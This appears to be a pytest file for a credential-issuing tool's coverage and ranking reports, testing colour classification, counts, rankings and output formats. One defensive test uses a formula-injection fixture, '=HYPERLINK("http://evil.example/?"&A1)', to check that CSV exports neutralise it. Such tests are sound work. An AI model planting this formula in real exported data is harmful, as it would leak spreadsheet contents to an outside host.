"""Coverage and ranking reports: the colour of each card as of a day, counts, rates, ranks, formats."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

import anxinma
from anxinma import Status
from anxinma.batch import BatchOptions, run_batch
from anxinma.cli.common import Cli
from anxinma.cli.report import report_group
from anxinma.issuerdb import WorkerState
from anxinma.keys import public_key_pem
from anxinma.report import Counts, _width, classify, coverage, coverage_tables, ranking, render_table

from .pki import KEY_A, ROOT
from .test_batch import ENTERPRISES, NOW, new_db, population_csv

DAY = dt.date(2026, 12, 1)
MOMENT = dt.datetime(2026, 12, 1, 12, tzinfo=anxinma.CST)


def state(**kw: object) -> WorkerState:
    base: dict[str, object] = {
        "card_no": "NB1", "enterprise_uscc": "91330203MA2H123450", "region": "330203", "status": Status.VALID,
        "exp": int((MOMENT + dt.timedelta(days=30)).timestamp()), "health_until": DAY,
        "insurance_until": DAY + dt.timedelta(days=9), "alert": False,
    }  # fmt: skip
    return WorkerState(**{**base, **kw})  # type: ignore[arg-type]


def test_classify_follows_the_verifier_colour_rule() -> None:
    assert classify(state(), MOMENT) == "green"  # valid through the end of DAY (CST)
    end = dt.datetime.combine(DAY + dt.timedelta(days=1), dt.time(), anxinma.CST)
    assert classify(state(), end - dt.timedelta(seconds=1)) == "green"
    assert classify(state(exp=int(end.timestamp()) + 99), end) == "yellow"  # lapsed at midnight
    assert classify(state(insurance_until=None), MOMENT) == "yellow"  # missing
    assert classify(state(alert=True), MOMENT) == "red"
    assert classify(state(status=Status.SUSPENDED), MOMENT) == "suspended"
    assert classify(state(status=Status.INVALID), MOMENT) == "revoked"
    assert classify(state(exp=int(MOMENT.timestamp())), MOMENT) == "expired"
    assert classify(state(status=None, exp=None), MOMENT) == "none"


def test_counts_and_rate() -> None:
    states = [state(card_no=str(n)) for n in range(3)] + [state(card_no="r", status=Status.INVALID)]
    states.append(state(card_no="y", enterprise_uscc="91330212MA2CJ7K41A", health_until=None))
    cov = coverage(states, now=MOMENT)
    total = cov.total
    assert (total.registered, total.live, total.green, total.yellow, total.revoked) == (5, 4, 3, 1, 1)
    assert total.rate == pytest.approx(0.8)
    name, district, firm = cov.enterprises["91330203MA2H123450"]
    assert (name, district, firm.live, firm.revoked) == ("91330203MA2H123450", "330203", 3, 1)
    assert cov.districts["330212"].yellow == 1
    assert Counts().rate == 0.0


def directory() -> anxinma.Directory:
    rows = [
        line.split("\t") for line in ENTERPRISES.splitlines() if line and not line.startswith(("#", "rank"))
    ]
    firms = {
        uscc: anxinma.Enterprise(uscc, name, district, code or None) for _, district, code, name, uscc in rows
    }
    return anxinma.Directory(1, NOW, NOW + dt.timedelta(days=365), tuple(firms.values()))


def test_ranking_by_live_credentials_with_shared_ranks_and_district_filter() -> None:
    states = [state(card_no=f"a{n}") for n in range(3)]
    states += [state(card_no=f"b{n}", enterprise_uscc="91330212MA2CJ7K41A") for n in range(3)]
    states += [state(card_no="c", enterprise_uscc="91330212MA2DE7N1T9")]
    cov = coverage(states, now=MOMENT, directory=directory())
    rows = ranking(cov)
    assert [r[0] for r in rows] == ["1", "1", "3"]
    assert rows[2][1:4] == ["鄞州区", "宁波市江东开米家庭服务有限公司", "1"]
    assert {r[2] for r in rows[:2]} == {"宁波市海曙大众社区服务有限公司", "宁波江东贝嘉宝家政服务有限公司"}
    assert [r[2] for r in ranking(cov, district="海曙区")] == ["宁波市海曙大众社区服务有限公司"]
    with pytest.raises(anxinma.UsageError, match="no enterprise in district"):
        ranking(cov, district="火星区")


def test_formats() -> None:
    cov = coverage([state(), state(card_no="2", status=Status.SUSPENDED)], now=MOMENT, directory=directory())
    (title, headers, rows), _ = coverage_tables(cov)
    parsed = list(csv.reader(io.StringIO(render_table(title, headers, rows, "csv"))))
    assert parsed[0][:4] == ["enterprise", "district", "uscc", "registered"]
    assert parsed[1][:5] == ["宁波市海曙大众社区服务有限公司", "海曙区", "91330203MA2H123450", "2", "1"]
    assert parsed[1][-1] == "50.0%"
    markdown = render_table(title, headers, rows, "markdown").splitlines()
    assert markdown[0] == "### Coverage by enterprise" and markdown[3].startswith(
        "| --- | --- | --- | ---: |"
    )
    text = render_table(title, headers, rows, "text").splitlines()
    at = text[2].index("海曙区")
    assert text[1].index("district") == _width(text[2][:at]) == 32  # 15 CJK characters take 30 columns
    with pytest.raises(anxinma.UsageError):
        render_table(title, headers, rows, "html")


def test_report_commands_on_a_batch_database(tmp_path: Path) -> None:
    with new_db(tmp_path / "issuer.db") as db:
        options = BatchOptions(out=tmp_path / "out", image=None, jobs=1)
        result = run_batch(population_csv(200), source="w.csv", key=KEY_A, db=db, options=options, now=NOW)
        db.set_status(db.batch_items(result.batch_id)[0].card_no, Status.INVALID, now=NOW)
    signed = tmp_path / "dir.cwt"
    signed.write_bytes(directory().sign(ROOT))
    root = tmp_path / "root.pub.pem"
    root.write_bytes(public_key_pem(ROOT))
    cli = Cli(commands=[report_group])
    base = ["--db", str(tmp_path / "issuer.db"), "--now", "2026-12-01T12:00:00+08:00"]
    out = CliRunner().invoke(cli, ["report", "coverage", *base, "--format", "csv"])
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO(out.output)))
    total = rows[-1]
    assert list(rows[0])[:2] == ["uscc", "region"]  # no directory: each USCC once, no "district" (issue 10)
    assert total["uscc"] == "all enterprises" and int(total["registered"]) == result.issued_now
    assert int(total["revoked"]) == 1 and int(total["live"]) == result.issued_now - 1 - int(total["expired"])
    assert int(total["green"]) + int(total["yellow"]) + int(total["red"]) == int(total["live"])
    assert int(total["yellow"]) > 0
    names = ["--directory", str(signed), "--root", str(root)]
    named = CliRunner().invoke(cli, ["report", "ranking", *base, *names, "--top", "3"])
    assert named.exit_code == 0, named.output
    lines = named.output.splitlines()
    assert lines[0].startswith("Ranking by live credentials") and len(lines) == 5
    assert "浙江捷达物业服务有限公司" in lines[2]  # rank 1 of the published table is still first
    bad = CliRunner().invoke(cli, ["report", "ranking", *base, "--district", "火星区"])
    assert bad.exit_code == 2 and bad.output.count("\n") == 1 and "--district" in bad.output
    missing = CliRunner().invoke(cli, ["report", "coverage", "--db", str(tmp_path / "none.db")])
    assert missing.exit_code == 2 and "no such issuer database" in missing.output


def test_report_csv_cells_are_never_formulas(tmp_path: Path) -> None:
    """issue 9 item 11: names from a directory (or anywhere) that look like formulas are written with
    a leading apostrophe in `report --format csv`; plain numbers, negative ones included, stay data."""
    firm = anxinma.Enterprise(
        "91330203MA2H123450", '=HYPERLINK("http://evil.example/?"&A1)', "@SUM(A1)", "330203"
    )
    held = anxinma.Directory(1, NOW, NOW + dt.timedelta(days=365), (firm,))
    signed, root = tmp_path / "dir.cwt", tmp_path / "root.pub.pem"
    signed.write_bytes(held.sign(ROOT))
    root.write_bytes(public_key_pem(ROOT))
    with new_db(tmp_path / "issuer.db") as db:
        options = BatchOptions(out=tmp_path / "out", image=None, jobs=1)
        run_batch(population_csv(20), source="w.csv", key=KEY_A, db=db, options=options, now=NOW)
    base = ["--db", str(tmp_path / "issuer.db"), "--now", "2026-12-01T12:00:00+08:00", "--format", "csv"]
    base += ["--directory", str(signed), "--root", str(root)]
    cli = Cli(commands=[report_group])
    for command in ("coverage", "ranking"):
        out = CliRunner().invoke(cli, ["report", command, *base])
        assert out.exit_code == 0, out.output
        cells = [cell for row in csv.reader(io.StringIO(out.output)) for cell in row]
        assert '\'=HYPERLINK("http://evil.example/?"&A1)' in cells and "'@SUM(A1)" in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    table = render_table("t", ["a", "b", "c", "d", "e"], [["-3", "-0.5", "12.5%", "-", "-A1"]], "csv")
    assert table.splitlines()[1] == "-3,-0.5,12.5%,'-,'-A1"
